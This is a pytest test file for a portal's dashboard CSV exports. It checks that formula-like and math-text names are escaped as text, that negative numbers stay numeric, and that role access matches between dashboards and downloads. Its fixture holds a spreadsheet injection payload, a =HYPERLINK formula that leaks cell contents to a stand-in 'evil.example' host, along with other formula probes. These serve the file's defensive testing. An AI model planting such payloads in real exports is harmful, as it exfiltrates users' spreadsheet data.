"""Dashboard downloads: each role gets a table exactly when it gets the dashboard, and names
that look like formulas or math text are drawn on every dashboard and written as text in
every CSV table, with numbers (negative ones too) still numbers."""

import csv
import io
from datetime import date, datetime

import pytest

from portal.extensions import db
from portal.models import IdeaStatus, Role, Touchpoint, TouchpointKind
from portal.spreadsheets import FORMULA_STARTS
from tests.reports.test_pages import DASHBOARDS

DEPARTMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"details") $$'
OBJECTIVE = "$\\frac{1}{$ growth"
ESTIMATOR = "@SUM(A1) $x$"
BRM = "+1 $$ Brm"
SCENARIO = "-2 Plan $5 on $6"


@pytest.fixture
def hostile(
    department, make_user, make_idea, make_objective, make_estimate, realized, actual_cost,
    status_event, make_run,
):  # fmt: skip
    department.name = DEPARTMENT
    estimator = make_user(Role.PORTFOLIO_MANAGER, name=ESTIMATOR)
    brm = make_user(Role.BRM, name=BRM)
    employee = make_user(name="$$")
    growth = make_objective(OBJECTIVE, 1)
    idea = make_idea(
        employee, IdeaStatus.DELIVERED, title="=1+1 $$ invoicing",
        submitted_at=datetime(2026, 1, 5), decided_at=datetime(2026, 1, 20), assignee=brm,
    )  # fmt: skip
    make_estimate(idea, estimator, {growth: 3}, {"2026": (100, 0)})  # estimated value 75
    realized(idea, estimator, 50, date(2026, 3, 1))  # value error -25
    actual_cost(idea, estimator, "2026", 120)
    status_event(idea, employee, "draft", "submitted", datetime(2026, 1, 5))
    status_event(idea, brm, "submitted", "approved", datetime(2026, 1, 20))
    db.session.add(
        Touchpoint(
            brm=brm, department=department, held_on=date(2026, 2, 1),
            kind=TouchpointKind.MEETING, notes="$$",
        )
    )  # fmt: skip
    make_run(
        estimator, [(idea, "2026")], periods=["2026"], budget={"2026": 500},
        adopted_at=datetime(2026, 1, 25), name=SCENARIO,
    )  # fmt: skip
    db.session.commit()
    return idea


@pytest.mark.parametrize("name", DASHBOARDS)
def test_dashboards_draw_hostile_names(name, pm_client, hostile):
    for query in ("", "?period=", f"?department={hostile.department_id}"):
        response = pm_client.get(f"/reports/{name}{query}")
        assert response.status_code == 200, (query, response.data[:300])
        assert b"<svg" in response.data


@pytest.mark.parametrize("name", DASHBOARDS)
def test_dashboard_tables_write_names_as_text(name, pm_client, hostile):
    page = pm_client.get(f"/reports/{name}.csv?period=")
    assert page.status_code == 200
    first = list(csv.reader(io.StringIO(page.data.decode("utf-8-sig"))))
    tables = {t.split("=")[-1] for t in _table_links(pm_client, name)} or {None}
    for table in tables:
        query = f"?period=&table={table}" if table else "?period="
        rows = list(
            csv.reader(
                io.StringIO(pm_client.get(f"/reports/{name}.csv{query}").data.decode("utf-8-sig"))
            )
        )
        for row in rows[1:]:
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    float(cell)  # only numbers may start like a formula
    assert first


def _table_links(client, name: str) -> set[str]:
    html = client.get(f"/reports/{name}?period=").get_data(as_text=True)
    return {part.split("&")[0].split('"')[0] for part in html.split("table=")[1:]}


def test_calibration_keeps_a_negative_error_a_number(pm_client, hostile):
    text = pm_client.get("/reports/calibration.csv?period=").data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    mine = next(r for r in rows if ESTIMATOR in next(iter(r.values())))
    assert next(iter(mine.values())) == "'" + ESTIMATOR
    assert any(v.startswith("-") and float(v) < 0 for v in mine.values() if v), mine
    value = pm_client.get("/reports/value.csv?period=").data.decode("utf-8-sig")
    assert f"'{DEPARTMENT}" in next(csv.reader(io.StringIO(value.splitlines()[1])))[0]


@pytest.mark.parametrize("name", DASHBOARDS)
def test_each_role_downloads_what_its_dashboard_shows(
    name, employee_client, brm_client, pm_client, admin_client
):
    for client in (employee_client, brm_client, pm_client, admin_client):
        page = client.get(f"/reports/{name}?department=").status_code
        assert client.get(f"/reports/{name}.csv?department=").status_code == page
